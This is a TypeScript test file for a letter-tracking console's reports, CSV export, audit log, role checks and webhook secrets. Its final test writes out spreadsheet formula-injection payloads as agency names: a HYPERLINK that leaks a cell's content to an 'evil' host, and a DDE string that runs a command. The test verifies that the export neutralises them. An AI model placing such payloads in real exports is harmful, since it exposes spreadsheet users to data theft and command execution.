// The console's leadership report, audit log and agencies page over a real node and database,
// in headless Chromium and over plain HTTP: the month's letters per agency and department
// (median and 90th-percentile days, share within the period, overdue now), SMS per template,
// inquiries per channel,
// the chart drawn by the library served from node_modules, the CSV re-read as Excel would,
// a manager's scope, refusals for roles without the right, the audit log paged and filtered,
// the twelve-month trend (table, line chart, CSV) against the stored letter records over a
// history of several months, narrowed to an agency or a department (unknown codes refused),
// and a webhook secret created in the console that verifies until it is revoked there.
import { test } from "node:test";
import assert from "node:assert/strict";
import type { Browser, Page } from "playwright-core";
import { Webhook } from "standardwebhooks";
import { api, eventually, http, smsNode } from "./support/harness.ts";
import { consoleBrowserSignIn, consoleSignIn } from "./support/console.ts";
import { artifactPath, launchChromium } from "../channels/testing.ts";
import { putStaffUser } from "../core/console/accounts.ts";
import { PendingReplyModel } from "../core/followup/models.ts";
import { MessageModel } from "../core/sms/models.ts";
import { TransactionModel } from "../core/events/models.ts";
import { monthOf, monthRange } from "../core/console/report.ts";
import { refreshDirtyDays } from "../core/report/facts.ts";
import { ReportDayModel, ReportLetterModel } from "../core/report/models.ts";
import { monthsEnding } from "../core/report/rollup.ts";

const PASSWORD = "console-pass-0123";
const DAY = 86_400_000;
// Last month: the letters all leave on its 3rd (period 10 calendar days); replied after `reply` days, or not.
const MONTH = monthOf(new Date(monthRange(monthOf(new Date())).from.getTime() - DAY));
const SENT = new Date(monthRange(MONTH).from.getTime() + 2 * DAY + 9 * 3600_000);
const LETTERS = [
  { tx: "144800101", dept: "LEGAL", agency: "MOI", reply: 3 },
  { tx: "144800102", dept: "LEGAL", agency: "MOH", reply: 12 },
  { tx: "144800103", dept: "LEGAL", agency: "MOI", reply: 5 },
  { tx: "144800104", dept: "HR", agency: "MOI", reply: undefined },
  { tx: "144800105", dept: "LEGAL", agency: "MOH", reply: undefined },
];
// The trend's history: letters sent on the 5th of months before MONTH (`back` months before), replied after `reply` days, or not.
const HISTORY = [
  { tx: "144800201", dept: "LEGAL", agency: "MOI", back: 2, reply: 2 },
  { tx: "144800202", dept: "LEGAL", agency: "MOI", back: 2, reply: 8 },
  { tx: "144800203", dept: "HR", agency: "MOH", back: 2, reply: 20 },
  { tx: "144800204", dept: "LEGAL", agency: "MOH", back: 5, reply: 4 },
  { tx: "144800205", dept: "HR", agency: "MOI", back: 5, reply: undefined },
  { tx: "144800206", dept: "LEGAL", agency: "MOI", back: 5, reply: 15 },
];
const TREND = monthsEnding(MONTH, 12);
// A name with a comma and quotes: the CSV must quote it.
const MOH_NAME = 'وزارة "الصحة", العامة';

let browser: Browser;
const world = smsNode({
  async then({ node }) {
    await api(node.url, "PUT", "/api/v1/departments/HR", { name: { ar: "الموارد البشرية", en: "Human Resources" }, manager: { name: "نورة", mobile: "0559990011" } });
    await api(node.url, "PUT", "/api/v1/agencies/MOH", { name: { ar: MOH_NAME, en: "Ministry of Health" } });
    const at = (days: number) => new Date(SENT.getTime() + days * DAY).toISOString();
    const events = LETTERS.flatMap((l, i) => [
      { id: `r${i}-1`, type: "registered", transactionNumber: l.tx, occurredAt: at(-1), data: { citizen: { name: "محمد", mobile: "0551234567" }, subject: "طلب إفادة", departmentCode: l.dept } },
      { id: `r${i}-2`, type: "issued", transactionNumber: l.tx, occurredAt: at(0), data: { outgoingNumber: `9${l.tx}`, outgoingDate: at(0), destination: { agencyCode: l.agency }, requiresReply: true } },
      ...(l.reply === undefined ? [] : [{ id: `r${i}-3`, type: "reply-received", transactionNumber: l.tx, occurredAt: at(l.reply), data: { outgoingNumber: `9${l.tx}`, replyDate: at(l.reply) } }]),
    ]);
    assert.equal((await api(node.url, "POST", "/api/v1/events", events)).status, 202);
    await eventually(async () => (await TransactionModel.countDocuments({ "outgoing.reply": { $exists: true } })) === 3 && (await PendingReplyModel.countDocuments({})) === 2, 20000, "the replies applied");
    const history = HISTORY.flatMap((l, i) => {
      const sent = new Date(monthRange(TREND[11 - l.back]!).from.getTime() + 4 * DAY + 9 * 3600_000);
      const on = (days: number) => new Date(sent.getTime() + days * DAY).toISOString();
      return [
        { id: `h${i}-1`, type: "registered", transactionNumber: l.tx, occurredAt: on(-1), data: { citizen: { name: "محمد", mobile: "0551234567" }, subject: "طلب إفادة", departmentCode: l.dept } },
        { id: `h${i}-2`, type: "issued", transactionNumber: l.tx, occurredAt: on(0), data: { outgoingNumber: `9${l.tx}`, outgoingDate: on(0), destination: { agencyCode: l.agency }, requiresReply: true } },
        ...(l.reply === undefined ? [] : [{ id: `h${i}-3`, type: "reply-received", transactionNumber: l.tx, occurredAt: on(l.reply), data: { outgoingNumber: `9${l.tx}`, replyDate: on(l.reply) } }]),
      ];
    });
    assert.equal((await api(node.url, "POST", "/api/v1/events", history)).status, 202);
    await eventually(async () => (await ReportLetterModel.countDocuments({ _id: { $regex: "^91448002" }, replied: true })) === 5 && (await ReportLetterModel.countDocuments({ _id: { $regex: "^91448002" } })) === 6, 20000, "the history applied");
    for (const [username, role, departments] of [["admin1", "admin"], ["viewer1", "viewer"], ["officer", "followup"], ["mgr", "manager", ["LEGAL"]]] as const) {
      await putStaffUser({ username, role, password: PASSWORD, ...(departments ? { departments: [...departments] } : {}) });
    }
    browser = await launchChromium();
  },
  async teardown() {
    await browser?.close();
  },
});

const signIn = (username: string, password = PASSWORD) => consoleSignIn(world.node.url, username, password);

const browserLogin = (username: string, viewport = { width: 1366, height: 768 }) => consoleBrowserSignIn(browser, world.node.url, username, PASSWORD, { viewport, acceptDownloads: true });

const cells = (page: Page, table: string, code: string) => page.locator(`#${table} tr[data-code="${code}"] td`).allTextContents();

/** RFC 4180 as Excel reads it: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(field), (field = "");
    else if (ch === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
    else field += ch;
  }
  return rows;
}

test("report: an admin sees last month's letters per agency and department (median, p90, within the period, overdue now), the chart drawn; screenshots", async () => {
  const page = await browserLogin("admin1");
  const res = (await page.goto(`${world.node.url}/console/report?month=${MONTH}`))!;
  assert.equal(res.status(), 200);
  assert.match(res.headers()["content-security-policy"]!, /script-src 'self';/);
  assert.doesNotMatch(res.headers()["content-security-policy"]!, /unsafe-inline|unsafe-eval/);
  // code, name, sent, replied, median, p90, within %, overdue now
  assert.deepEqual((await cells(page, "by-agency", "MOI")).slice(2), ["3", "2", "3", "5", "67%", "1"]);
  assert.deepEqual((await cells(page, "by-agency", "MOH")).slice(1), [MOH_NAME, "2", "1", "12", "12", "0%", "1"]);
  assert.deepEqual((await cells(page, "by-department", "LEGAL")).slice(2), ["4", "3", "5", "12", "50%", "1"]);
  assert.deepEqual((await cells(page, "by-department", "HR")).slice(2), ["1", "0", "—", "—", "0%", "1"]);
  // The chart library came from the console itself and drew (right to left in Arabic).
  await page.waitForSelector("#chart-agencies[data-drawn='1']", { timeout: 10000 });
  assert.equal(await page.getAttribute("#chart-agencies", "data-rtl"), "1");
  await page.screenshot({ path: artifactPath("console-report-desktop.png"), fullPage: true });
  const tablet = await browserLogin("admin1", { width: 820, height: 1180 });
  await tablet.goto(`${world.node.url}/console/report?month=${MONTH}`);
  await tablet.waitForSelector("#chart-agencies[data-drawn='1']", { timeout: 10000 });
  // The trend: twelve months, the line chart drawn (time right to left in Arabic), its table the accessible source.
  assert.equal(await page.locator("#trend tbody tr").count(), 12);
  await page.waitForSelector("#chart-trend[data-drawn='1']", { timeout: 10000 });
  assert.equal(await page.getAttribute("#chart-trend", "aria-label"), "الوسيط والمئين 90 لأيام الرد حسب الشهر");
  await tablet.waitForSelector("#chart-trend[data-drawn='1']", { timeout: 10000 });
  await tablet.screenshot({ path: artifactPath("console-report-tablet.png"), fullPage: true });
  // A bad month is a 400 page; the library is not served under any other name.
  assert.equal((await page.goto(`${world.node.url}/console/report?month=2026-13`))!.status(), 400);
  assert.equal((await page.goto(`${world.node.url}/console/assets/..%2Fpages.ts`))!.status(), 404);
  await page.close();
  await tablet.close();
});

test("report: this month's SMS per template (sent, delivered, failed, parts) match the messages stored", async () => {
  const { cookie } = await signIn("viewer1");
  await eventually(async () => (await MessageModel.countDocuments({ status: { $in: ["queued", "sending"] } })) === 0, 30000, "the SMS settled");
  // The report shows SMS as the facts job (every minute) left them: its run now.
  await refreshDirtyDays();
  const page = await http(world.node.url, "GET", `/console/report`, undefined, { cookie });
  assert.equal(page.status, 200);
  const rows = [...page.text.matchAll(/<tr data-template="([^"]+)">(.*?)<\/tr>/g)].map((m) => [m[1], ...[...m[2]!.matchAll(/<bdi dir="ltr">([^<]*)<\/bdi>/g)].slice(1).map((x) => Number(x[1]))]);
  assert.ok(rows.length > 0, "some SMS this month");
  const { from, to } = monthRange(monthOf(new Date()));
  for (const [template, sent, delivered, failed, parts] of rows as Array<[string, number, number, number, number]>) {
    const stored = await MessageModel.find({ template, createdAt: { $gte: from, $lt: to }, status: { $nin: ["queued", "sending", "opted-out"] } }).lean();
    assert.equal(sent, stored.length, template);
    assert.equal(delivered, stored.filter((m) => m.status === "delivered").length, template);
    assert.equal(failed, stored.filter((m) => ["undeliverable", "expired", "rejected", "failed"].includes(m.status)).length, template);
    assert.equal(parts, stored.reduce((s, m) => s + (m.parts ?? 0), 0), template);
  }
  // A month with no SMS says so (not the managers' note).
  const quiet = await http(world.node.url, "GET", `/console/report?month=2020-01`, undefined, { cookie });
  assert.doesNotMatch(quiet.text, /id="sms"/);
  assert.match(quiet.text, /لم تُرسل رسائل نصية في هذا الشهر/);
  assert.doesNotMatch(quiet.text, /لا تُنسب إلى إدارة/);
});

test("report: inquiries per channel, counted as asked (written a few seconds later), in the table, its chart and the CSV", async () => {
  const { cookie } = await signIn("viewer1");
  for (let i = 0; i < 3; i++) assert.equal((await http(world.node.url, "GET", "/api/v1/inquiry?number=144800101")).status, 200);
  const webRow = async () => /<tr data-channel="web">.*?<\/tr>/.exec((await http(world.node.url, "GET", "/console/report", undefined, { cookie })).text)?.[0] ?? "";
  await eventually(async () => /<bdi dir="ltr">3<\/bdi>/.test(await webRow()), 20000, "three web inquiries counted");
  const page = await http(world.node.url, "GET", "/console/report", undefined, { cookie });
  assert.match(page.text, /id="chart-inquiries"[^>]*data-chart="[^"]*الموقع الإلكتروني/, "the chart's data");
  const csv = await http(world.node.url, "GET", "/console/report.csv", undefined, { cookie });
  assert.ok(csv.text.split("\r\n").some((line) => /^الاستعلامات,web,الموقع الإلكتروني,3(,)*$/.test(line)), "the CSV's inquiries row");
});

test("report: the CSV opens in Excel (BOM, CRLF, Arabic headers, quoted fields) and re-reads to the page's figures", async () => {
  const page = await browserLogin("admin1");
  await page.goto(`${world.node.url}/console/report?month=${MONTH}`);
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#csv")]);
  assert.equal(download.suggestedFilename(), `taqib-report-${MONTH}.csv`);
  const bytes = await (await import("node:fs/promises")).readFile((await download.path())!);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "UTF-8 byte-order mark");
  const text = bytes.subarray(3).toString("utf8");
  assert.ok(text.endsWith("\r\n") && !/[^\r]\n/.test(text), "CRLF line ends only");
  const rows = parseCsv(text);
  assert.deepEqual(rows[0], ["الجهة / الإدارة", "الرمز", "الاسم", "خطابات تتطلب ردًّا", "رُدّ عليها", "الوسيط (أيام)", "المئين 90 (أيام)", "نسبة الرد خلال المدة %", "متأخرة الآن"]);
  assert.ok(rows.every((r) => r.length === 9), "every row has 9 fields");
  const find = (kind: string, code: string) => rows.find((r) => r[0] === kind && r[1] === code)?.slice(2);
  assert.deepEqual(find("الجهة", "MOH"), [MOH_NAME, "2", "1", "12", "12", "0", "1"]);
  assert.deepEqual(find("الجهة", "MOI")?.slice(1), ["3", "2", "3", "5", "67", "1"]);
  assert.deepEqual(find("الإدارة", "LEGAL")?.slice(1), ["4", "3", "5", "12", "50", "1"]);
  assert.match(text, /"وزارة ""الصحة"", العامة"/, "quotes doubled inside a quoted field");
  await page.close();
});

test("report: a manager sees only their departments (no office-wide SMS); a viewer is refused the audit log and agencies (403)", async () => {
  const mgr = await signIn("mgr");
  const r = await http(world.node.url, "GET", `/console/report?month=${MONTH}`, undefined, { cookie: mgr.cookie });
  assert.equal(r.status, 200);
  assert.match(r.text, /data-code="LEGAL"/);
  assert.doesNotMatch(r.text, /data-code="HR"/);
  assert.doesNotMatch(r.text, /id="sms"/);
  assert.match(r.text, /لا تُنسب إلى إدارة/, "why there are no SMS");
  const csv = await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}`, undefined, { cookie: mgr.cookie });
  assert.doesNotMatch(csv.text, /,HR,/);
  const viewer = await signIn("viewer1");
  for (const p of ["/console/audit", "/console/agencies"]) assert.equal((await http(world.node.url, "GET", p, undefined, { cookie: viewer.cookie })).status, 403, p);
  const officer = await signIn("officer");
  const refused = await fetch(`${world.node.url}/console/agencies/MOH/secrets`, { method: "POST", redirect: "manual", headers: { "content-type": "application/x-www-form-urlencoded", cookie: officer.cookie }, body: new URLSearchParams({ csrf: officer.csrf }) });
  assert.equal(refused.status, 403, "a follow-up officer may not create secrets");
});

test("audit log: an admin pages it newest first and filters by user and action", async () => {
  for (const u of ["viewer1", "viewer1", "officer"]) await signIn(u);
  const page = await browserLogin("admin1");
  await page.goto(`${world.node.url}/console/audit`);
  const ats = await page.locator("#audit tbody tr").count();
  assert.ok(ats >= 4);
  assert.equal(await page.getAttribute("#audit tbody tr:first-child", "data-actor"), "admin1", "newest first: this sign-in");
  await page.fill("#f-actor", "viewer1");
  await page.fill("#f-action", "login");
  await page.click("form.filters button");
  const actors = await page.locator("#audit tbody tr").evaluateAll((trs) => trs.map((tr) => `${tr.getAttribute("data-actor")}:${tr.getAttribute("data-action")}`));
  assert.ok(actors.length >= 2 && actors.every((a) => a === "viewer1:login"), actors.join(","));
  assert.equal((await http(world.node.url, "GET", "/console/audit?page=x", undefined, { cookie: (await signIn("admin1")).cookie })).status, 400);
  await page.close();
});

function verifies(secret: string): Promise<boolean> {
  const id = `msg_${Math.random().toString(36).slice(2)}`;
  const ts = new Date();
  // A signed empty object: 400 when the signature verified (bad body), 401 when the secret is not accepted.
  return http(world.node.url, "POST", "/webhooks/agencies/MOH/replies", "{}", {
    "content-type": "application/json",
    "webhook-id": id,
    "webhook-timestamp": String(Math.floor(ts.getTime() / 1000)),
    "webhook-signature": new Webhook(secret).sign(id, ts, "{}"),
  }).then((r) => {
    assert.ok(r.status === 400 || r.status === 401, `${r.status} ${r.text}`);
    return r.status === 400;
  });
}

test("agencies: an admin creates a webhook secret (shown once), it verifies; revoked in the console it stops verifying; both audited", async () => {
  const page = await browserLogin("admin1");
  await page.goto(`${world.node.url}/console/agencies?agency=MOH`);
  await page.click("#create-secret button");
  const secret = (await page.textContent("#secret-value"))!.trim();
  const id = (await page.textContent("#secret-id"))!.trim();
  assert.match(secret, /^whsec_/);
  assert.equal(await verifies(secret), true, "the new secret verifies");
  await page.goto(`${world.node.url}/console/agencies?agency=MOH`);
  assert.doesNotMatch(await page.content(), new RegExp(secret.slice(6, 30).replace(/[+/]/g, "\\$&")), "shown once only");
  assert.equal(await page.locator(`tr[data-secret="${id}"]`).count(), 1);
  await page.click(`tr[data-secret="${id}"] button`);
  await page.waitForURL(/revoked=1/);
  assert.equal(await page.locator(`tr[data-secret="${id}"] button`).count(), 0, "no revoke button once revoked");
  assert.equal(await verifies(secret), false, "a revoked secret no longer verifies");
  await page.goto(`${world.node.url}/console/audit?action=agency-secret-revoked`);
  assert.equal(await page.locator("#audit tbody tr").count(), 1);
  await page.screenshot({ path: artifactPath("console-audit-desktop.png"), fullPage: true });
  await page.close();
});

/** Nearest rank over the sorted values. */
const nearestRank = (values: number[], p: number) => [...values].sort((a, b) => a - b)[Math.max(0, Math.ceil((p / 100) * values.length) - 1)];

/** The trend's letters per month from the stored letter records (one per letter needing a reply), as the page shows them. */
async function trendFromRecords(filter: { agencyCode?: string; departmentCode?: string } = {}) {
  const letters = await ReportLetterModel.find(filter).lean();
  return TREND.map((m) => {
    const of = letters.filter((l) => l.day.startsWith(m));
    const days = of.filter((l) => l.replied).map((l) => l.daysToReply!);
    const within = of.filter((l) => l.within).length;
    return [String(of.length), String(days.length), days.length ? String(nearestRank(days, 50)) : "—", days.length ? String(nearestRank(days, 90)) : "—", of.length ? `${Math.round((within / of.length) * 100)}%` : "—"];
  });
}

/** The trend table's rows of a report page: month → [sent, replied, median, p90, within %, …SMS]. */
const trendRows = (html: string) =>
  new Map([...html.matchAll(/<tr data-month="([^"]+)"><th scope="row">[^<]*<\/th><td>[^<]*<\/td>(.*?)<\/tr>/g)].map((m) => [m[1]!, [...m[2]!.matchAll(/<bdi dir="ltr">([^<]*)<\/bdi>(%?)/g)].map((x) => x[1]! + x[2]!)]));

test("report: the twelve-month trend equals the stored letter records month by month (office-wide, one agency, one department); unknown codes refused; the CSV re-reads to it", async () => {
  // The facts job's runs: the days recomputed, then the months before folded into their documents.
  await refreshDirtyDays();
  await refreshDirtyDays();
  for (const back of [2, 5]) assert.equal((await ReportDayModel.findById(`month|${TREND[11 - back]}`).lean())?.state, "clean", `${TREND[11 - back]} folded`);
  const { cookie } = await signIn("viewer1");
  const get = (q: string) => http(world.node.url, "GET", `/console/report?month=${MONTH}${q}`, undefined, { cookie });
  const expectRows = async (q: string, filter: { agencyCode?: string; departmentCode?: string }) => {
    const page = await get(q);
    assert.equal(page.status, 200, q);
    const rows = trendRows(page.text);
    assert.deepEqual([...rows.keys()], TREND, q);
    assert.deepEqual([...rows.values()].map((r) => r.slice(0, 5)), await trendFromRecords(filter), q);
    return { page, rows };
  };
  const { page, rows } = await expectRows("", {});
  assert.deepEqual(rows.get(TREND[9]!)!.slice(0, 4), ["3", "3", "8", "20"], "two months before: three letters replied after 2, 8 and 20 days");
  assert.equal(rows.get(TREND[9]!)!.length, 9, "office-wide: the SMS columns too");
  assert.match(page.text, /<th scope="row">[^<]+<\/th><td>[^<]*(محرم|صفر|ربيع|جمادى|رجب|شعبان|رمضان|شوال|ذو)[^<]*هـ<\/td>/, "the Hijri months beside the Gregorian one");
  assert.match(page.text, /id="chart-trend"[^>]*data-chart="[^"]*&quot;type&quot;:&quot;line&quot;/);
  const moi = await expectRows("&agency=MOI", { agencyCode: "MOI" });
  assert.equal(moi.rows.get(TREND[6]!)!.length, 5, "narrowed to an agency: no SMS (they carry none)");
  assert.match(moi.page.text, /id="f-agency"[^>]*value="MOI"/);
  await expectRows("&department=HR", { departmentCode: "HR" });
  // Unknown or malformed codes, and both filters at once: 400; a manager's filter on another department: 403.
  for (const q of ["&agency=NOPE", "&department=NOPE", "&agency=bad%20code", "&agency=MOI&department=LEGAL"]) assert.equal((await get(q)).status, 400, q);
  const mgr = await signIn("mgr");
  assert.equal((await http(world.node.url, "GET", `/console/report?month=${MONTH}&department=HR`, undefined, { cookie: mgr.cookie })).status, 403);
  const mgrPage = await http(world.node.url, "GET", `/console/report?month=${MONTH}`, undefined, { cookie: mgr.cookie });
  assert.deepEqual([...trendRows(mgrPage.text).values()], (await trendFromRecords({ departmentCode: "LEGAL" })), "a manager's trend: their departments, no SMS");
  // The CSV: the trend's section after the month's, re-read to the page's figures.
  const csv = parseCsv((await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}`, undefined, { cookie })).text.replace(/^\uFEFF/, ""));
  assert.ok(csv.every((r) => r.length === 9), "every row has 9 fields");
  const section = csv.filter((r) => r[0] === "الاتجاه خلال اثني عشر شهرًا");
  assert.deepEqual(section[0]!.slice(1, 8), ["الشهر", "الشهر الميلادي / الشهر الهجري", "خطابات تتطلب ردًّا", "رُدّ عليها", "الوسيط (أيام)", "المئين 90 (أيام)", "نسبة الرد خلال المدة %"]);
  assert.deepEqual(section.slice(1).map((r) => r[1]), TREND);
  assert.deepEqual(section.slice(1).map((r) => [r[3], r[4], r[5] || "—", r[6] || "—", r[7] ? `${r[7]}%` : "—"]), [...rows.values()].map((r) => r.slice(0, 5)));
  const sms = csv.filter((r) => r[0] === "الاتجاه خلال اثني عشر شهرًا — رسالة نصية");
  assert.deepEqual(sms.slice(1).map((r) => r.slice(3, 7)), [...rows.values()].map((r) => r.slice(5, 9)), "the SMS per month");
  const narrowed = await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}&agency=MOI`, undefined, { cookie });
  assert.match(narrowed.headers.get("content-disposition") ?? "", new RegExp(`taqib-report-${MONTH}-MOI\\.csv`));
});

test("report: a month outside 2000-01 to this month is a 400 that names the month, in the page's language", async () => {
  const { cookie } = await signIn("admin1");
  for (const month of ["0000-01", "1999-12", "9999-12", "2026-13", "26-01"]) {
    for (const path of ["/console/report", "/console/report.csv"]) {
      const r = await http(world.node.url, "GET", `${path}?month=${month}`, undefined, { cookie });
      assert.equal(r.status, 400, `${path}?month=${month}`);
      assert.match(r.text, /الشهر غير صحيح: يُكتب بالصيغة سنة-شهر/, `${path}?month=${month}`);
    }
  }
  const en = await http(world.node.url, "GET", "/console/report?month=0000-01", undefined, { cookie: `${cookie}; taqib_console_lang=en` });
  assert.equal(en.status, 400);
  assert.match(en.text, /The month is not valid: write it as year-month/);
  const unknown = await http(world.node.url, "GET", `/console/report?month=${MONTH}&agency=NOPE`, undefined, { cookie });
  assert.match(unknown.text, /التصفية غير صحيحة/);
});

// Last in this file: it renames an agency and a department.
test("report: agency and department names that a spreadsheet would run as formulas come out of the CSV as text", async () => {
  const formulas = { MOI: '=HYPERLINK("evil"&A1,"وزارة الداخلية")', HR: "@SUM(1+1)*cmd|' /C calc'!A0" };
  const moi = await api(world.node.url, "PUT", "/api/v1/agencies/MOI", { name: { ar: formulas.MOI, en: "+Interior" } });
  assert.equal(moi.status, 200, moi.text);
  const { code: _code, updatedAt: _at, ...hr } = (await api(world.node.url, "GET", "/api/v1/departments/HR")).body;
  const renamed = await api(world.node.url, "PUT", "/api/v1/departments/HR", { ...hr, name: { ar: formulas.HR, en: "-HR" } });
  assert.equal(renamed.status, 200, renamed.text);
  const { cookie } = await signIn("admin1");
  await eventually(async () => (await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}`, undefined, { cookie })).text.includes("HYPERLINK"), 10000, "the renamed agency in the CSV");
  const rows = parseCsv((await http(world.node.url, "GET", `/console/report.csv?month=${MONTH}`, undefined, { cookie })).text.replace(/^\uFEFF/, ""));
  assert.equal(rows.find((r) => r[0] === "الجهة" && r[1] === "MOI")?.[2], `'${formulas.MOI}`);
  assert.equal(rows.find((r) => r[0] === "الإدارة" && r[1] === "HR")?.[2], `'${formulas.HR}`);
  const dangerous = rows.flat().filter((f) => /^[=+\-@\t\r]/.test(f));
  assert.deepEqual(dangerous, [], "no field starts a formula");
});
